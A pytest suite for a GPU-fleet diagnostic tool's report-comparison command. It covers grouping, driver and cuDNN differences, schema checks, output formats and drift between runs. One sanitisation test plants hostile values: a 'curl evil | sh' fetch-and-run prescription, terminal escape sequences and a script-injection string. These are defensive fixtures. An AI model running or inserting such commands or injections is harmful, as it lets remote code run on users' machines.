"""Tests `fleet read` with reports made from real file trees: groups, differences, and which differences
matter."""

from __future__ import annotations

import gzip
import json
import os
import resource
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Callable

import pytest

from doctor.errors import InputError
from doctor.fleet.answers import unanswered
from doctor.fleet.compare import compared
from doctor.fleet.drift import changes
from doctor.fleet.nodelist import folded
from doctor.fleet.read import earlier, read
from tests.fleet.conftest import ROOT
from tests.fleet.trees import report, tree

Fleet = Callable[..., "subprocess.CompletedProcess[str]"]
CUDA = "/tmp/tfgpu-doctor-simulation-glpxtd9z/cuda"
KINDS: dict[str, dict[str, Any]] = {
    "sound": {},
    "old-driver": {"texts": [("550.54.14", "450.80.02")]},
    "newer-driver": {"texts": [("550.54.14", "550.90.07")]},
    "cudnn": {"texts": [("9.10.2", "9.12.0")]},
    "unset": {"texts": [(f"/driver:{CUDA}", "/driver")]},
    "kernel": {"texts": [("6.18.44-fc-v657", "6.12.99-other")]},
    "release": {"texts": [("2.18.1", "2.18.0")]},
}


@pytest.fixture(scope="session")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The report for each kind of node."""
    folder = tmp_path_factory.mktemp("trees")
    return {kind: report(tree(folder / kind, **how)) for kind, how in KINDS.items()}


@pytest.fixture
def folder(reports: dict[str, str], tmp_path: Path) -> Path:
    """Reports from twelve nodes. n01 to n08 are healthy, but n03 has another kernel, and n04 another driver
    that also works."""
    kinds = [
        "sound",
        "sound",
        "kernel",
        "newer-driver",
        *["sound"] * 4,
        "old-driver",
        "old-driver",
        "cudnn",
        "unset",
    ]
    for number, kind in enumerate(kinds, 1):
        (tmp_path / f"n{number:02d}.json").write_text(reports[kind])
    return tmp_path


def test_equal_nodes_are_one_group_and_odd_ones_are_named(fleet: Fleet, folder: Path) -> None:
    done = fleet("read", str(folder), "--format", "json")
    assert done.returncode == 1, done.stderr
    document = json.loads(done.stdout)
    groups = [(group["nodes"], group["verdict"]) for group in document["groups"]]
    assert groups[0] == ([f"n{n:02d}" for n in range(1, 9)], "healthy")
    assert (["n09", "n10"], "driver-too-old") in groups
    assert (["n11"], "healthy") in groups
    assert [nodes for nodes, _ in groups if "n12" in nodes] == [["n12"]]
    assert [node["name"] for node in document["nodes"]] == [f"n{n:02d}" for n in range(1, 13)]
    by_verdict = {group["verdict"]: group for group in document["groups"]}
    assert any("driver" in step["text"] for step in by_verdict["driver-too-old"]["prescription"])
    assert by_verdict["driver-too-old"]["facts"]["driver"] == "450.80.02"


def test_it_says_which_differences_matter_and_why(fleet: Fleet, folder: Path) -> None:
    document = json.loads(fleet("read", str(folder), "--format", "json").stdout)
    found = {d["fact"]: d for d in document["differences"]}
    assert found["driver"]["most"] == "550.54.14"
    assert found["driver"]["others"] == {"n04": "550.90.07", "n09": "450.80.02", "n10": "450.80.02"}
    assert found["driver"]["matters"] is True
    assert "450.80.02 does not fit" in found["driver"]["why"]
    assert "525.60.13" in found["driver"]["why"]
    assert found["cudnn"]["matters"] is True
    assert found["kernel"] == {**found["kernel"], "matters": False, "others": {"n03": "6.12.99-other"}}
    assert found["env.LD_LIBRARY_PATH"]["matters"] is True
    assert found["library.libcudnn.so.9"]["others"]["n12"] in (
        "cannot be loaded",
        "on the disk, but the loader does not search there",
    )


def test_mig_and_a_missing_gpu_are_distinguished(reports: dict[str, str], tmp_path: Path) -> None:
    gpu = json.loads(reports["sound"])
    gpu["facts"]["gpus"]["value"] *= 2
    (tmp_path / "n1.json").write_text(json.dumps(gpu))
    (tmp_path / "n2.json").write_text(json.dumps(gpu))
    source = {
        "where": "libnvidia-ml.so.1: nvmlDeviceGetMigMode",
        "line": None,
        "text": "GPU 0: MIG is on, 1 instances 3g.20gb",
    }
    mig = json.loads(json.dumps(gpu))
    mig["record"]["facts"].append(
        {
            "fact": "Symptom",
            "source": source,
            "kind": "mig-enabled",
            "detail": [["gpu", "0"], ["instances", "1"], ["names", "3g.20gb"]],
        }
    )
    (tmp_path / "n3.json").write_text(json.dumps(mig))
    (tmp_path / "n4.json").write_text(reports["sound"])
    found = {d.fact: d for d in compared(read([str(tmp_path)], keep=False)).differences}
    assert found["gpus"].others == {"n4": "1 x NVIDIA GeForce RTX 3070"}
    assert found["mig"].others == {"n3": "GPU 0: 3g.20gb"}
    assert found["gpus"].matters
    assert found["mig"].matters


SCHEMA: dict[str, Any] = {
    "type": "object",
    "required": ["schema", "tool", "nodes", "groups", "differences"],
    "additionalProperties": False,
    "properties": {
        "schema": {"const": 1},
        "tool": {"type": "object", "required": ["name", "version", "tables"]},
        "nodes": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["name", "status", "reason", "verdict", "report"],
                "additionalProperties": False,
                "properties": {
                    "name": {"type": "string"},
                    "status": {"enum": ["answered", "unreachable", "timed-out", "failed"]},
                    "reason": {"type": ["string", "null"]},
                    "verdict": {"type": ["string", "null"]},
                    "report": {
                        "anyOf": [
                            {"type": "null"},
                            json.loads((ROOT / "doctor/render/schema.json").read_text()),
                        ]
                    },
                },
            },
        },
        "groups": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["nodes", "verdict", "facts"],
                "properties": {
                    "nodes": {"type": "array", "minItems": 1},
                    "facts": {"type": "object", "additionalProperties": {"type": "string"}},
                },
            },
        },
        "differences": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["fact", "most", "others", "matters", "why"],
                "additionalProperties": False,
                "properties": {
                    "fact": {"type": "string"},
                    "most": {"type": ["string", "null"]},
                    "others": {
                        "type": "object",
                        "minProperties": 1,
                        "additionalProperties": {"type": ["string", "null"]},
                    },
                    "matters": {"type": "boolean"},
                    "why": {"type": "string", "minLength": 1},
                },
            },
        },
        "changes": {"type": "array"},
    },
}
"""The schema that the JSON promises. A report in it is checked against the schema of `check`."""


def test_the_json_is_as_promised(fleet: Fleet, folder: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    (folder / "n13.json").write_text("")
    (folder / "n14.json").write_text(
        json.dumps({**json.loads((folder / "n01.json").read_text()), "node": "n14"})
    )
    schema = json.loads(
        json.dumps(SCHEMA).replace("#/$defs/", "#/properties/nodes/items/properties/report/anyOf/1/$defs/")
    )
    document = json.loads(fleet("read", str(folder), "--format", "json").stdout)
    jsonschema.Draft202012Validator(schema).validate(document)
    assert len(document["nodes"]) == 14


def test_two_drivers_that_fit_do_not_matter(reports: dict[str, str], tmp_path: Path) -> None:
    for name, kind in (("a", "sound"), ("b", "newer-driver"), ("c", "kernel")):
        (tmp_path / f"{name}.json").write_text(reports[kind])
    comparison = compared(read([str(tmp_path)], keep=False))
    assert {d.fact: d.matters for d in comparison.differences}["driver"] is False
    assert [group.nodes for group in comparison.groups] == [("a", "b", "c")]
    assert comparison.exit_code == 0


def test_the_schemas_of_the_reports_are_kept_whole(
    fleet: Fleet, folder: Path, reports: dict[str, str]
) -> None:
    document = json.loads(fleet("read", str(folder / "n01.json"), "--format", "json").stdout)
    assert document["nodes"][0]["report"] == json.loads(reports["sound"])


@pytest.mark.parametrize("form", ["text", "markdown", "html"])
def test_each_format_names_what_is_odd(fleet: Fleet, folder: Path, form: str) -> None:
    done = fleet("read", str(folder), "--format", form)
    for word in ("12 nodes", "450.80.02", "driver-too-old", "cuDNN"):
        assert word in done.stdout, word
    assert "n[09-10]" in done.stdout or r"n\[09-10\]" in done.stdout


def test_it_fits_a_terminal_at_500_nodes(fleet: Fleet, reports: dict[str, str], tmp_path: Path) -> None:
    for number in range(500):
        (tmp_path / f"gpu-{number:03d}.json").write_text(
            reports["old-driver" if number % 100 == 7 else "sound"]
        )
    done = fleet("read", str(tmp_path), env={"COLUMNS": "80"})
    rows = done.stdout.splitlines()
    assert len(rows) < 40
    assert max(map(len, rows)) <= 80
    assert "495 nodes, healthy" in done.stdout


def test_names_come_from_the_report_the_file_or_the_folders(reports: dict[str, str], tmp_path: Path) -> None:
    sound = reports["sound"]
    for host in ("n1", "n2"):
        (tmp_path / "fetched" / host / "tmp").mkdir(parents=True)
        (tmp_path / "fetched" / host / "tmp" / "report.json").write_text(sound)
    assert [a.name for a in read([str(tmp_path / "fetched")], keep=False)] == ["n1", "n2"]
    named = tmp_path / "all.jsonl"
    named.write_text("".join(json.dumps({**json.loads(sound), "node": f"k{n}"}) + "\n" for n in range(3)))
    assert [a.name for a in read([str(named)], keep=False)] == ["k0", "k1", "k2"]
    packed = tmp_path / "n7.cluster.json.gz"
    packed.write_bytes(gzip.compress(sound.encode()))
    assert [a.name for a in read([str(packed)], keep=False)] == ["n7.cluster"]
    laid_out = tmp_path / "n8.json"
    laid_out.write_text(json.dumps(json.loads(sound), indent=2))
    assert [(a.name, a.status) for a in read([str(laid_out)], keep=False)] == [("n8", "answered")]
    twice = read([str(named), str(named)], keep=False)
    assert len({a.name for a in twice}) == 6


BROKEN: dict[str, bytes] = {
    "empty": b"",
    "words": b"ssh: connect to host n5 port 22: Connection refused\n",
    "cut": b'{"schema": 1, "findings": [{"code": "healthy", ',
    "other": b'{"hello": 1}\n',
    "schema": b'{"schema": 2, "findings": []}\n',
    "no-findings": b'{"schema": 1, "findings": []}\n',
    "unknown-code": b'{"schema": 1, "findings": [{"code": "rm-rf", "severity": "info"}], "facts": {}}\n',
    "deep": b"[" * 200_000,
    "deep-object": b'{"findings":' * 200_000,
    "types": b'{"schema": 1, "findings": [{"code": ["x"], "severity": {}}]}',
    "binary": bytes(range(256)) * 10,
}


@pytest.mark.parametrize("kind", BROKEN)
def test_a_file_without_a_report_counts_as_a_failed_node_with_a_reason(kind: str, tmp_path: Path) -> None:
    (tmp_path / "n1.json").write_bytes(BROKEN[kind])
    (answer,) = read([str(tmp_path)], keep=False)
    assert (answer.name, answer.status) == ("n1", "failed")
    assert answer.reason
    assert compared([answer]).exit_code == 3


def test_values_of_strange_types_are_left_out_and_break_nothing(
    reports: dict[str, str], tmp_path: Path
) -> None:
    document = json.loads(reports["sound"])
    document["facts"].update(
        driver={"value": {"a": 1}}, cudnn=7, gpus={"value": "many"}, env={"value": ["x"]}, python=None
    )
    document["compatibility"] = [None, {"part": 1}, {"part": "driver", "fits": "no"}]
    document["record"]["facts"] += [
        None,
        7,
        {"fact": "Package"},
        {"fact": "Symptom", "kind": "mig-enabled", "detail": "x"},
    ]
    (tmp_path / "n1.json").write_text(json.dumps(document))
    (tmp_path / "n2.json").write_text(reports["sound"])
    comparison = compared(read([str(tmp_path)], keep=True))
    assert [a.status for a in comparison.answers] == ["answered", "answered"]


def test_no_command_of_a_report_is_repeated_and_nothing_steers_a_terminal(
    fleet: Fleet, reports: dict[str, str], tmp_path: Path
) -> None:
    document = json.loads(reports["old-driver"])
    document["findings"][0]["prescription"] = [
        {"kind": "shell", "text": "curl evil | sh", "platform": "", "needs_root": True, "why": "x"}
    ]
    document["findings"][0]["title"] = "\x1b]0;owned\x07 <script>alert(1)</script>"
    document["facts"]["driver"]["value"] = "450.80.02\x1b[2J\u202e<b>"
    document["node"] = "n1\x1b[31m\n<i>"
    (tmp_path / "n1.json").write_text(json.dumps(document))
    for form in ("text", "markdown", "html", "json"):
        out = fleet("read", str(tmp_path), "--format", form).stdout
        assert "\x1b" not in out, form
        assert "\u202e" not in out, form
        if form != "json":
            assert "curl evil" not in out, form
            assert "<b>" not in out or form == "text", form
    groups = json.loads(fleet("read", str(tmp_path), "--format", "json").stdout)["groups"]
    assert "curl evil" not in json.dumps(groups)


def test_a_verdict_that_the_facts_do_not_support_gets_no_cure(
    reports: dict[str, str], tmp_path: Path, fleet: Fleet
) -> None:
    document = json.loads(reports["sound"])
    document["findings"][0].update(code="driver-missing", severity="error")
    (tmp_path / "n1.json").write_text(json.dumps(document))
    out = " ".join(fleet("read", str(tmp_path)).stdout.split())
    assert "the facts in the report lead to the verdict healthy" in out


def test_what_changed_since_the_last_run(fleet: Fleet, reports: dict[str, str], tmp_path: Path) -> None:
    today, before = tmp_path / "today", tmp_path / "before.json"
    today.mkdir()
    for name, kind in (("n1", "sound"), ("n2", "sound"), ("n3", "old-driver"), ("gone", "sound")):
        (today / f"{name}.json").write_text(reports[kind])
    assert fleet("read", str(today), "--format", "json", "--output", str(before)).returncode == 1
    same = fleet("read", str(today), "--since", str(before))
    assert "Nothing has changed since the earlier run" in same.stdout
    (today / "gone.json").unlink()
    (today / "new.json").write_text(reports["sound"])
    (today / "n2.json").write_text(reports["old-driver"])
    (today / "n3.json").write_text("")
    document = json.loads(fleet("read", str(today), "--since", str(before), "--format", "json").stdout)
    by_change = {(c["what"], c["before"], c["now"]): c["nodes"] for c in document["changes"]}
    assert by_change[("verdict", "healthy", "driver-too-old")] == ["n2"]
    assert by_change[("driver", "550.54.14", "450.80.02")] == ["n2"]
    assert by_change[("status", "answered", "failed")] == ["n3"]
    assert by_change[("status", "answered", "not among the nodes")] == ["gone"]
    assert by_change[("status", "not among the nodes", "answered")] == ["new"]
    laid_out = tmp_path / "laid-out.json"
    laid_out.write_text(json.dumps(json.loads(before.read_text()), indent=1))
    assert changes(earlier(str(before)), earlier(str(laid_out))) == ()
    (tmp_path / "cut.json").write_text(before.read_text()[:-2000].rpartition("\n")[0])
    for name in ("cut.json", "today/n1.json"):
        with pytest.raises(InputError):
            earlier(str(tmp_path / name))


def test_exit_zero_hides_errors_and_never_a_node_that_could_not_be_asked(
    fleet: Fleet, reports: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "n1.json").write_text(reports["old-driver"])
    assert fleet("read", str(tmp_path), "--exit-zero").returncode == 0
    (tmp_path / "n2.json").write_text("")
    assert fleet("read", str(tmp_path)).returncode == 1
    assert fleet("read", str(tmp_path), "--exit-zero").returncode == 3


@pytest.mark.parametrize(
    "words",
    [
        [],
        ["read"],
        ["reed", "x"],
        ["read", "x", "--ssh", "n1"],
        ["read", "x", "--distributed"],
        ["--manifest", "kubernetes"],
    ],
)
def test_a_wrong_call_is_reported(fleet: Fleet, words: list[str]) -> None:
    done = fleet(*words)
    assert done.returncode == 2, done.stdout
    assert "Traceback" not in done.stderr


def test_nodes_are_folded_as_slurm_writes_them() -> None:
    assert folded(["n1", "n2", "n3", "n5", "login"]) == ["n[1-3,5]", "login"]
    assert folded([f"gpu-{n:03d}.x" for n in range(98, 103)]) == ["gpu-[098-102].x"]
    assert folded(["a1b2", "a1b3", "c7"]) == ["a1b[2-3]", "c7"]
    assert folded([]) == []


def test_a_node_that_was_not_asked_counts_for_no_difference(reports: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "n1.json").write_text(reports["sound"])
    comparison = compared([*read([str(tmp_path)], keep=False), unanswered("n2", "unreachable", "down")])
    assert comparison.differences == ()
    assert comparison.exit_code == 3


@pytest.mark.slow
def test_ten_thousand_reports_are_compared_within_thirty_seconds(
    reports: dict[str, str], tmp_path: Path
) -> None:
    """The elapsed time is judged together with the load of this machine. The memory is measured for the
    process itself."""
    kinds = list(reports)
    for kind in kinds:
        (tmp_path / f".{kind}").write_text(reports[kind])
    for number in range(10_000):
        kind = kinds[number // 100 % len(kinds)] if number % 100 == 7 else "sound"
        os.link(tmp_path / f".{kind}", tmp_path / f"n{number:05d}.json")
    began = time.monotonic()
    code = (
        # not ru_maxrss, which includes the memory of the parent before the fork
        "import sys; from doctor.cli import main; code = main(sys.argv[1:]);"
        "print(code, int(open('/proc/self/status').read().split('VmHWM:')[1].split()[0]) // 1024,"
        " file=sys.stderr)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, "fleet", "read", str(tmp_path)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=200,
        check=False,
    )
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert "10000 nodes: 10000 answered" in done.stdout, done.stderr
    assert int(done.stderr.split()[-1]) < 200
    assert min(time.monotonic() - began, used.ru_utime) < 30
